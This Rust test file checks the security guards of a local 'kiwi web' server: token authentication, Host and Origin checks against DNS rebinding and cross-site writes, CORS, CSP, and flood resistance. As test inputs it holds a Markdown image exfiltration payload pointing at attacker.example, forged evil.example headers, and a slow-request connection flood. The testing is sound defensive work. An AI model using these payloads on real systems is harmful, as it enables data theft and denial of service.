//! `kiwi web` as a process: its banner in each mode, port probing, the HTTP guards (token,
//! Origin, Host, CORS preflight), `/healthz` and the JSON 404/405, the refusal of
//! `--dangerously-omit-auth` without a terminal, and a clean exit on SIGTERM.

use super::web_kit::{Home, free_port, http};

fn scripted_home() -> Home {
    let home = Home::new();
    home.scripted(&["text: hi".to_string()]);
    home
}

#[test]
fn local_mode_banner_and_plain_routes() {
    let home = scripted_home();
    let mut server = home.serve(&[]);
    let banner = server.banner.join("\n");
    assert!(banner.contains("WEB UI (Technical Preview)"), "{banner}");
    let token = server.token.clone().expect("a token on loopback too");
    assert_eq!(token.len(), 43, "{banner}");
    assert!(banner.contains(&format!("  ➜  Local    http://127.0.0.1:{}/?token={token}", server.port)), "{banner}");
    assert!(banner.contains("    • Use -n / --network to share on LAN"), "{banner}");
    let health = server.http("GET", "/healthz", &[], None);
    assert_eq!((health.status, health.body.as_str()), (200, r#"{"status":"ok"}"#));
    // The slash-less list path is also served (`docs/web-api.md`); other unknown paths are 404.
    let listed = server.http("GET", "/api/sessions", &[], None);
    assert_eq!((listed.status, listed.body.as_str()), (200, "[]"));
    let missing = server.http("GET", "/api/nothing-here", &[], None);
    assert_eq!((missing.status, missing.body.as_str()), (404, r#"{"detail":"Not Found"}"#));
    let wrong = server.http("POST", "/healthz", &[], Some("{}"));
    assert_eq!((wrong.status, wrong.body.as_str()), (405, r#"{"detail":"Method Not Allowed"}"#));
    let page = server.http("GET", "/", &[], None);
    assert_eq!(page.status, 200);
    assert_eq!(page.header("cache-control"), Some("no-cache, no-store, must-revalidate"));
    // Issue 30 item 4: the page may load and connect only to its own origin.
    let csp = page.header("content-security-policy").expect("the page carries a CSP");
    assert!(csp.contains("default-src 'self'") && csp.contains("img-src 'self' data: blob:;"), "{csp}");
    assert!(csp.contains(&format!("connect-src 'self' ws://127.0.0.1:{}", server.port)), "{csp}");
    let status = server.terminate().expect("exits on SIGTERM");
    assert!(status.success(), "{status:?}");
}

#[test]
fn dns_rebinding_is_refused_in_local_mode() {
    let home = scripted_home();
    let server = home.serve(&[]);
    for host in ["evil.example", "evil.example:80", "127.0.0.1.nip.io"] {
        let r = server.http("GET", "/healthz", &[("Host", host)], None);
        assert_eq!((r.status, r.body.as_str()), (403, r#"{"detail":"Host not allowed"}"#), "{host}");
    }
    for host in ["localhost", "localhost:5494", "[::1]:1"] {
        assert_eq!(server.http("GET", "/healthz", &[("Host", host)], None).status, 200, "{host}");
    }
}

#[test]
fn tokens_guard_the_api_in_lan_mode() {
    let home = scripted_home();
    let server = home.serve(&["-n", "--auth-token", "tok 123"]);
    let banner = server.banner.join("\n");
    assert!(banner.contains(&format!("  ➜  Local    http://localhost:{}/?token=tok%20123", server.port)), "{banner}");
    assert!(banner.contains("  Token:   tok 123") && banner.contains("  Mode: LAN only (private IPs)"), "{banner}");
    let unauthorized = http(server.port, "GET", "/api/sessions/", &[], None);
    assert_eq!((unauthorized.status, unauthorized.body.as_str()), (401, r#"{"detail":"Unauthorized"}"#));
    let wrong = server.http("GET", "/api/sessions/", &[("Authorization", "Bearer tok")], None);
    assert_eq!(wrong.status, 401);
    // Past the guard: the route (or its absence) answers.
    let bearer = server.http("GET", "/api/nothing", &[("Authorization", "bearer tok 123")], None);
    assert_eq!(bearer.status, 404);
    let query = http(server.port, "GET", "/api/nothing?token=tok%20123", &[], None);
    assert_eq!(query.status, 404);
    let post_query = http(server.port, "POST", "/api/nothing?token=tok%20123", &[], Some("{}"));
    assert_eq!(post_query.status, 401, "the query token is for GET only");
    assert_eq!(server.http("GET", "/healthz", &[], None).status, 200);
    assert_eq!(server.http("GET", "/", &[], None).status, 200);
}

/// Issue 30 item 1: on loopback (the default) the API needs the token the banner prints; the
/// user's own token may come from a file or `KIWI_WEB_AUTH_TOKEN` (never seen by tools), and only
/// `--dangerously-omit-auth` serves without one.
#[test]
fn loopback_requires_the_printed_token_unless_auth_is_omitted() {
    let home = scripted_home();
    let server = home.serve(&[]);
    let token = server.token.clone().expect("the banner prints a token");
    let anonymous = http(server.port, "POST", "/api/sessions/", &[], Some("{}"));
    assert_eq!((anonymous.status, anonymous.body.as_str()), (401, r#"{"detail":"Unauthorized"}"#));
    assert_eq!(http(server.port, "GET", "/api/sessions/", &[], None).status, 401);
    let id = home.new_session();
    let refused = server.ws_as(&id, "", &[]).map(|_| ()).unwrap_err();
    assert!(matches!(refused, tungstenite::Error::Http(ref r) if r.status() == 403), "{refused:?}");
    let bearer = format!("Bearer {token}");
    assert_eq!(http(server.port, "GET", "/api/sessions/", &[("Authorization", &bearer)], None).status, 200);
    assert_eq!(http(server.port, "GET", &format!("/api/sessions/?token={token}"), &[], None).status, 200);
    assert!(server.ws(&id, "", &[]).is_ok());
    drop(server);

    // From a file (first line, trimmed) and from the environment; a flag wins over both.
    let file = home.dir.path().join("token.txt");
    std::fs::write(&file, "file-tok\n").unwrap();
    let server = home.serve(&["--auth-token-file", file.to_str().unwrap()]);
    assert_eq!(server.token.as_deref(), Some("file-tok"));
    assert_eq!(http(server.port, "GET", "/api/sessions/", &[("Authorization", "Bearer file-tok")], None).status, 200);
    drop(server);
    let mut cmd = home.command(&["-p", &free_port().to_string()]);
    cmd.env("KIWI_WEB_AUTH_TOKEN", "env-tok");
    let server = super::web_kit::Server::start(cmd);
    assert_eq!(server.token.as_deref(), Some("env-tok"));
    assert_eq!(http(server.port, "GET", "/api/sessions/", &[("Authorization", "Bearer env-tok")], None).status, 200);
    assert_eq!(http(server.port, "GET", "/api/sessions/", &[], None).status, 401);
    drop(server);
    let output = home.command(&["--auth-token-file", "/nonexistent/kiwi-token"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.starts_with("Cannot read the token file /nonexistent/kiwi-token: "), "{stderr}");

    let server = home.serve(&["--dangerously-omit-auth"]);
    assert!(server.token.is_none() && !server.banner.join("\n").contains("?token="), "{:?}", server.banner);
    assert_eq!(http(server.port, "GET", "/api/sessions/", &[], None).status, 200);
}

/// Issue 30 item 2: a web page may POST `text/plain` without a preflight; whatever the mode, a
/// write from an Origin the CORS rule refuses is refused, and JSON is read only as JSON.
#[test]
fn cross_site_writes_are_refused_in_local_mode() {
    let home = scripted_home();
    let server = home.serve(&["--dangerously-omit-auth"]);
    let work = home.work();
    let body = serde_json::json!({"work_dir": work, "create_dir": true}).to_string();
    let forged = [("Origin", "http://evil.example"), ("Content-Type", "text/plain")];
    let r = server.http("POST", "/api/sessions/", &forged, Some(&body));
    assert_eq!((r.status, r.body.as_str()), (403, r#"{"detail":"Origin not allowed"}"#));
    let own = format!("http://localhost:{}", server.port);
    let plain = [("Origin", own.as_str()), ("Content-Type", "text/plain")];
    let r = server.http("POST", "/api/sessions/", &plain, Some(&body));
    assert_eq!((r.status, r.body.as_str()), (415, r#"{"detail":"Content-Type must be application/json"}"#));
    assert_eq!(server.get_json("/api/sessions/").1, serde_json::json!([]), "nothing was created");
    let r = server.http("POST", "/api/sessions/", &[("Origin", own.as_str())], Some(&body));
    assert_eq!(r.status, 200, "{}", r.body);
    // Reads from another origin are CORS's business (no allow header), as before.
    let read = server.http("GET", "/api/sessions/", &[("Origin", "http://evil.example")], None);
    assert_eq!(read.status, 200);
    assert!(read.header("access-control-allow-origin").is_none());
}

#[test]
fn public_mode_enforces_origins_and_restricts() {
    let home = scripted_home();
    let server = home.serve(&["-n", "--public", "--auth-token", "t"]);
    let banner = server.banner.join("\n");
    assert!(banner.contains("  ⚠ Sensitive APIs are restricted") && banner.contains("  ⚠ Mode: PUBLIC (all networks)"));
    let auth = ("Authorization", "Bearer t");
    let evil = server.http("GET", "/api/nothing", &[auth, ("Origin", "http://evil.example")], None);
    assert_eq!((evil.status, evil.body.as_str()), (403, r#"{"detail":"Origin not allowed"}"#));
    let own = format!("http://localhost:{}", server.port);
    let ok = server.http("GET", "/api/nothing", &[auth, ("Origin", own.as_str())], None);
    assert_eq!(ok.status, 404);
    assert_eq!(ok.header("access-control-allow-origin"), Some(own.as_str()));
    let preflight = server.http(
        "OPTIONS",
        "/api/sessions/",
        &[("Origin", "http://evil.example"), ("Access-Control-Request-Method", "POST")],
        None,
    );
    assert_eq!((preflight.status, preflight.body.as_str()), (400, "Disallowed CORS origin"));
}

#[test]
fn busy_ports_are_skipped_and_a_full_range_fails() {
    let home = scripted_home();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port();
    let server = super::web_kit::Server::start(home.command(&["-p", &port.to_string()]));
    assert_ne!(server.port, port);
    let said = format!("Port {port} is in use, using port {} instead", server.port);
    assert!(server.banner.iter().any(|l| l == &said), "{:?}", server.banner);
    assert_eq!(http(server.port, "GET", "/healthz", &[], None).status, 200);
    drop(server);
    // Ten busy ports in a row.
    let first = free_port();
    let held: Vec<_> = (0..10).filter_map(|i| std::net::TcpListener::bind(("127.0.0.1", first + i)).ok()).collect();
    if held.len() == 10 {
        let output = home.command(&["-p", &first.to_string()]).output().unwrap();
        assert_eq!(output.status.code(), Some(1));
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains(&format!("Cannot find available port in range {first}-{}", first + 9)), "{stderr}");
    }
}

#[test]
fn omitting_auth_on_a_public_address_needs_a_terminal() {
    let home = scripted_home();
    let output = home.command(&["-n", "--dangerously-omit-auth", "-p", &free_port().to_string()]).output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stdout).contains("SECURITY WARNING"));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("Refusing to start without auth in non-interactive mode."), "{stderr}");
    // Local mode accepts it silently.
    let server = home.serve(&["--dangerously-omit-auth"]);
    assert_eq!(server.http("GET", "/healthz", &[], None).status, 200);
    assert!(server.token.is_none());
}

#[test]
fn the_help_flag_is_long_only() {
    let home = scripted_home();
    let output = home.command(&["--help"]).output().unwrap();
    assert!(output.status.success());
    let help = String::from_utf8_lossy(&output.stdout);
    assert!(help.contains("--dangerously-omit-auth") && help.contains("-h, --host"), "{help}");
    assert!(help.contains("--auth-token-file"), "{help}");
}

/// Issue 30 item 4 and the "also found" list: the UI's Markdown renderer (run in Node.js) shows a
/// remote image as a link instead of loading it, still draws `data:` images, and keeps a code
/// span inside a link's label (it rendered as `0`).
#[test]
fn markdown_never_loads_remote_images_and_keeps_code_in_links() {
    let module = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/web/ui/assets/markdown.js");
    let script = format!(
        "import {{ renderMarkdown }} from {:?};\n\
         const out = [\"![leak](https://attacker.example/?d=SECRET)\", \"![dot](data:image/png;base64,iVBORw0KGgo=)\",\n\
           \"see [`cargo test`](https://doc.rust-lang.org)\"].map(renderMarkdown);\n\
         console.log(JSON.stringify(out));",
        format!("file://{}", module.display())
    );
    let output = match std::process::Command::new("node").args(["--input-type=module", "-e", &script]).output() {
        Ok(o) => o,
        Err(e) => return crate::npm::skip("the Markdown renderer test", &format!("Node.js cannot be run: {e}")),
    };
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let out: Vec<String> = serde_json::from_slice(&output.stdout).unwrap();
    assert!(!out[0].contains("<img"), "a remote image is never loaded: {}", out[0]);
    assert!(out[0].contains(r#"<a class="remote-image" href="https://attacker.example/?d=SECRET""#), "{}", out[0]);
    assert!(out[1].contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=""#), "{}", out[1]);
    assert!(out[2].contains("<code>cargo test</code></a>"), "{}", out[2]);
}

/// Issue 30 item 5: requests that never finish their head, and keep-alive connections left
/// idle, are closed by the server (within its head-read limit), so a flood of them against a
/// process with few descriptors (256 here, soft and hard) neither exhausts them for good nor
/// keeps the server unreachable.
#[test]
fn unfinished_requests_are_dropped_and_the_server_stays_reachable() {
    use std::io::{Read as _, Write as _};
    use std::os::unix::process::CommandExt as _;
    let home = scripted_home();
    let mut cmd = home.command(&["-p", &free_port().to_string(), "--dangerously-omit-auth"]);
    // SAFETY: only setrlimit, which is async-signal-safe, runs between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            let limit = libc::rlimit { rlim_cur: 256, rlim_max: 256 };
            libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
            Ok(())
        });
    }
    let server = super::web_kit::Server::start(cmd);
    assert_ne!(server.port, 0, "{:?}", server.banner);
    let mut idle = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n").unwrap();
    let mut flood = Vec::new();
    for _ in 0..300 {
        let Ok(mut c) = std::net::TcpStream::connect(("127.0.0.1", server.port)) else { break };
        let _ = c.write_all(b"GET /api/sessions/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
        flood.push(c);
    }
    assert!(flood.len() > 256, "the flood is bigger than the descriptors: {}", flood.len());
    // Every connection, the idle keep-alive one included, is closed by the server.
    let closed = |c: &mut std::net::TcpStream| -> bool {
        c.set_read_timeout(Some(super::web_kit::WAIT * 2)).unwrap();
        let mut sink = Vec::new();
        c.read_to_end(&mut sink).is_ok()
    };
    assert!(closed(&mut idle), "the idle keep-alive connection stays open");
    let held = flood.iter_mut().take(50).map(closed).filter(|done| !done).count();
    assert_eq!(held, 0, "unfinished requests are held");
    drop(flood);
    assert!(
        super::web_kit::wait_until(super::web_kit::WAIT, || {
            std::net::TcpStream::connect(("127.0.0.1", server.port)).is_ok()
                && server.http("GET", "/healthz", &[], None).status == 200
        }),
        "the server is unreachable after the flood"
    );
}

/// Issue 30 item 5: open WebSockets count against the connection cap (hyper lets go of an
/// upgraded connection; its place stays taken while the socket lives), so a flood of sockets
/// cannot exhaust the descriptors either; closing them gives the places back.
#[test]
fn open_websockets_count_against_the_connection_cap() {
    use std::os::unix::process::CommandExt as _;
    let home = scripted_home();
    let id = home.new_session();
    let mut cmd = home.command(&["-p", &free_port().to_string(), "--dangerously-omit-auth"]);
    // 64 descriptors: a cap of 16 connections.
    // SAFETY: only setrlimit, which is async-signal-safe, runs between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            let limit = libc::rlimit { rlim_cur: 64, rlim_max: 64 };
            libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
            Ok(())
        });
    }
    let server = super::web_kit::Server::start(cmd);
    assert_ne!(server.port, 0, "{:?}", server.banner);
    let sockets: Vec<_> = (0..16).map(|_| server.ws(&id, "", &[]).expect("a socket under the cap")).collect();
    let refused = std::net::TcpStream::connect(("127.0.0.1", server.port)).ok().is_none_or(|mut c| {
        use std::io::{Read as _, Write as _};
        let _ = c.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n");
        c.set_read_timeout(Some(super::web_kit::WAIT)).unwrap();
        let mut answer = Vec::new();
        let _ = c.read_to_end(&mut answer);
        !String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 200")
    });
    assert!(refused, "a 17th connection was served while 16 sockets were open");
    drop(sockets);
    assert!(
        super::web_kit::wait_until(super::web_kit::WAIT, || server.http("GET", "/healthz", &[], None).status == 200),
        "the places were not given back"
    );
}

/// The repository's demo config (its scripts file named relative to it).
fn demo_config() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples").join("demo.toml")
}

fn prompt_once(server: &super::web_kit::Server, text: &str) -> Vec<serde_json::Value> {
    let created = server.http("POST", "/api/sessions/", &[], Some("{}"));
    assert_eq!(created.status, 200, "{}", created.body);
    let id = created.json()["session_id"].as_str().unwrap().to_string();
    let (mut ws, _) = server.join(&id);
    ws.initialize("i1");
    ws.send(serde_json::json!({"jsonrpc": "2.0", "method": "prompt", "id": "p1", "params": {"user_input": text}}));
    let (mut before, answer) = ws.until(|m| m["id"] == "p1" && m.get("method").is_none());
    before.push(answer);
    before
}

fn texts(messages: &[serde_json::Value]) -> String {
    messages
        .iter()
        .filter(|m| m["params"]["type"] == "ContentPart" && m["params"]["payload"]["type"] == "text")
        .map(|m| m["params"]["payload"]["text"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn config_file_and_model_apply_to_every_session_after_or_before_web() {
    // The demo config from another directory: its scripts file is found next to it.
    let home = Home::new();
    let config = demo_config();
    let server = home.serve(&["--config-file", config.to_str().unwrap()]);
    let got = prompt_once(&server, "hello");
    assert_eq!(got.last().unwrap()["result"], serde_json::json!({"status": "finished"}), "{got:?}");
    assert!(texts(&got).contains("Let me lay out the plan."), "{got:?}");
    let (_, view) = server.get_json("/api/config/");
    assert_eq!(view["default_model"], "demo", "the config API shows the file in use: {view}");
    let (_, toml) = server.get_json("/api/config/toml");
    assert_eq!(toml["path"], config.to_str().unwrap());
    assert!(!home.share().join("config.toml").exists(), "the default config was not touched");
    drop(server);

    // The same options before `web`, and -m picking the second model of a config.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.json"), r#"["text: from model a"]"#).unwrap();
    std::fs::write(dir.path().join("b.json"), r#"["text: from model b"]"#).unwrap();
    let mut text = String::from("default_model = \"a\"\n");
    for name in ["a", "b"] {
        text.push_str(&format!(
            "[models.{name}]\nprovider = \"p{name}\"\nmodel = \"scripted_echo\"\nmax_context_size = 100000\n\
             [providers.p{name}]\ntype = \"_scripted_echo\"\nbase_url = \"\"\napi_key = \"\"\n\
             env = {{ KIMI_SCRIPTED_ECHO_SCRIPTS = \"{name}.json\" }}\n"
        ));
    }
    let file = dir.path().join("two.toml");
    std::fs::write(&file, text).unwrap();
    let port = free_port().to_string();
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_kiwi"));
    cmd.args(["--config-file", file.to_str().unwrap(), "-m", "b", "web", "--no-open", "-p", &port]);
    cmd.current_dir(home.work()).env("HOME", home.home()).env("KIMI_SHARE_DIR", home.share());
    for var in crate::common::SCRUBBED_ENV {
        cmd.env_remove(var);
    }
    let server = super::web_kit::Server::start(cmd);
    let got = prompt_once(&server, "hello");
    assert_eq!(texts(&got), "from model b", "{got:?}");
    assert_eq!(server.get_json("/api/config/").1["default_model"], "b");
    // Picking a model in the UI ends the -m choice.
    let r = server.http("PATCH", "/api/config/", &[], Some(r#"{"default_model": "a"}"#));
    assert_eq!((r.status, r.json()["config"]["default_model"].as_str()), (200, Some("a")), "{}", r.body);
    assert_eq!(texts(&prompt_once(&server, "again")), "from model a");
    drop(server);

    // Config text is not a file: refused, not ignored.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_kiwi"))
        .args(["--config", "default_model = \"\"", "web", "--no-open"])
        .env("HOME", home.home())
        .env("KIMI_SHARE_DIR", home.share())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("use --config-file PATH instead of --config"));
}

#[test]
fn without_a_model_the_socket_says_which_key_to_set_where() {
    let home = Home::new();
    let server = home.serve(&[]);
    let got = prompt_once(&server, "hello");
    let error = &got.last().unwrap()["error"];
    assert_eq!((error["code"].as_i64(), error["message"].as_str()), (Some(-32001), Some("LLM is not set")), "{got:?}");
    let detail = error["data"]["detail"].as_str().unwrap();
    let config = home.share().join("config.toml");
    assert!(detail.contains("default_model") && detail.contains(config.to_str().unwrap()), "{detail}");
}

#[test]
fn the_log_file_carries_each_sessions_id() {
    let home = scripted_home();
    let server = home.serve(&[]);
    let mut ids = Vec::new();
    for _ in 0..2 {
        let got = prompt_once(&server, "hello");
        assert!(got.last().unwrap()["result"]["status"] == "finished", "{got:?}");
        ids.push(got[0]["params"]["session_id"].as_str().map(str::to_string));
    }
    drop(server);
    let log = super::web_kit::read(&home.share().join("logs").join("kiwi.log"));
    let turns: Vec<&str> = log.lines().filter(|l| l.contains("a turn begins")).collect();
    assert_eq!(turns.len(), 2, "{log}");
    let sessions: std::collections::BTreeSet<&str> =
        turns.iter().filter_map(|l| l.split("session{id=").nth(1)).map(|rest| &rest[..36]).collect();
    assert_eq!(sessions.len(), 2, "each turn names its own session: {log}");
}
